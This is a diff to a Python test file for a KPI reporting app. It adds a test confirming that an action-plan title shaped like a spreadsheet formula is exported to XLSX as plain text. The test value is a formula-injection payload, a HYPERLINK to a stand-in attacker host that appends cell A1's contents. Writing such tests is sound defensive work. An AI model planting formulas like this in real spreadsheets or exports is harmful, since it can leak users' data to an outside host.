@@ -11,6 +11,7 @@ from openpyxl import load_workbook
 from pypdf import PdfReader
 
 from kpis.engine.reads import Target, kpis_read, rates_read
+from steering.models import ActionPlan
 from tests.steering import report_data
 from tests.steering.report_data import M
 
@@ -109,3 +110,11 @@ def test_the_csv_has_a_row_per_kpi_and_period(client, w):
     # Section, KPI, code, period, value… (the headers are in the reader's language).
     assert [r[2] for r in body[:12]] == ["nps"] * 12
     assert (body[11][3], body[11][4], body[11][6]) == ("2026-03", "25,0", "100")
+
+
+def test_a_plan_title_that_looks_like_a_formula_stays_text_in_the_xlsx(client, w):
+    title = '=HYPERLINK("https://evil.example/?"&A1,"Voir")'
+    ActionPlan.objects.filter(pk=w["plan-t1-nps"].pk).update(title=title)
+    book = load_workbook(io.BytesIO(_get(client, w, "report-xlsx").content))
+    [cell] = [row[2] for row in book["Action plans"].iter_rows(min_row=2) if row[3].value == "plan-t1-nps"]
+    assert (cell.value, cell.data_type) == (title, "s")
